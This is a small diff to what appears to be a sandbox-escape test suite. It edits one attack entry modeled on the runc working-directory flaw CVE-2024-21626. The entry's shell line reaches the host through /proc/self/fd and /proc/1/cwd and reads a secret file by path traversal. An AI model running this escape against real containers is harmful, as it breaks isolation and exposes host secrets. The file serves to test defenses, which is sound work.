@@ -4,7 +4,7 @@ export const attack: Attack = {
   id: 'descriptors/working-directory',
   tries: 'to climb from its working directory to what was open there before',
   source: 'CVE-2024-21626 (runc): a working directory below /proc/self/fd',
-  program: sh`cd /proc/self/fd/41 2> /dev/null && : > "$NONCE"; cd /proc/1/cwd && : > "$OUT/$NONCE"; cat ../../../../../../..$SECRET`,
+  program: sh`cd /proc/self/fd/41 2> /dev/null && echo > "$NONCE"; cd /proc/1/cwd && echo > "$OUT/$NONCE"; cat ../../../../../../..$SECRET`,
   succeeded: either(leaked, arrived),
   control: 'plain',
 }
